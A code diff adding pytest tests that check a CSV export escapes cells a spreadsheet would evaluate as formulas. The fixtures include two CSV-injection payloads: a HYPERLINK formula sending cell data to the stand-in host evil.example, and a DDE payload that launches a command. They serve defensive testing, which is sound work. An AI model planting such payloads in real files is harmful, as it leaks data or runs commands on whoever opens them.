@@ -136,3 +136,29 @@ def test_cases_of_a_cluster_without_telemetry_are_counted_not_hidden(labelled, i
     assert job.result["cases"] == 4 and job.result["cases_without_telemetry"] == 1 and job.result["rows"] == 4
     assert "1 case left out: no telemetry of its cluster" in client_for(investigator).get(
         f"/jobs/{job.pk}/progress").content.decode()
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(labelled, worker, investigator):
+    made, h = labelled
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
+    verdicts.record_verdict(investigator, made[0], kind="confirmed", hypothesis=h, rationale="see root cause",
+                            root_cause=formula)
+    verdicts.record_verdict(investigator, made[1], kind="confirmed", hypothesis=h, rationale="see root cause",
+                            root_cause="@SUM(1+1)*cmd|' /C calc'!A0")
+    job = exports.start_export(investigator, kinds=["confirmed"], controls=False, fmt="csv", lead_window_s=3600)
+    assert wait_for(job.pk, timeout=120).state == "succeeded"
+    text = exports.export_file(BackgroundJob.objects.get(pk=job.pk)).read_text()
+    rows = {row["case_id"]: row for row in csv.DictReader(io.StringIO(text))}
+    assert rows[str(made[0].pk)]["root_cause"] == "'" + formula
+    assert rows[str(made[1].pk)]["root_cause"].startswith("'@SUM")
+    for row in rows.values():
+        assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values()), row
+        assert float(row["f:gpu.pcie.replay"]) > 0.4  # numbers stay numbers
+
+
+@pytest.mark.parametrize("value, shown", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("gpu-a001", "gpu-a001"), ("", ""), (-1.5, -1.5), (3, 3),
+])
+def test_spreadsheet_safe(value, shown):
+    assert exports.spreadsheet_safe(value) == shown
